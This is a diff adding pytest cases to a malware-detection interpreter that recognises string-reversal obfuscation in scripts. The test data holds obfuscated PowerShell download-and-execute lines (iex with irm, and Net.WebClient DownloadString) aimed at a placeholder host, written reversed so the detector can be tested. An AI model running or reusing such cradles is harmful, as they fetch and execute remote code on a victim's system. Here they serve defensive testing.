@@ -12,7 +12,7 @@ from app.detection.interpret import interpret as _interpret
 from app.detection.interpret.budget import Budget
 from app.detection.interpret.facts import Facts
 from app.detection.interpret.powershell import interpret_powershell
-from app.detection.interpret.sniff import languages
+from app.detection.interpret.sniff import backwards, languages
 
 
 def interpret(text: str) -> Interpretation:
@@ -263,3 +263,33 @@ def test_a_promise_chain_is_javascript_not_powershell(text: str) -> None:
 def test_powershell_concatenation_beside_javascript_words_is_still_powershell() -> None:
     text = "$u='https://a.'+'test/x'; fetch($u).then(eval); iex (irm $u)"
     assert "powershell" in languages(text.lower())
+
+
+REVERSING = [
+    "$a='redaol/x/tset.a//:sptth'.ToCharArray(); [array]::Reverse($a); iex (irm (-join $a))",
+    "iex ((\"txt.a/tset.a//:sptth\")[-1..-99] -join '')",
+]
+
+
+@pytest.mark.parametrize("text", REVERSING)
+def test_the_reversed_copy_of_a_text_that_reverses_a_string_is_not_read(
+    text: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    low = text.lower()
+    assert languages(low) and not backwards(low)
+    assert languages(low[::-1]) and backwards(low[::-1])
+    read: list[str] = []
+    for name in READERS:
+        monkeypatch.setitem(READERS, name, lambda t, f, b, name=name: read.append(name))
+    _interpret(text)
+    assert read  # the text itself is read
+    read.clear()
+    _interpret(text[::-1])
+    assert read == []
+
+
+def test_a_text_reversing_a_string_that_holds_reversed_code_is_still_read() -> None:
+    # the payload is written backwards inside a forward command: read as it is
+    text = "iex ((\"))'x/tset.a//:sptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(\")[-1..-99] -join '')"
+    assert not backwards(text.lower())
+    assert any("DownloadString('https://a.test/x')" in x for x in _interpret(text).layers)
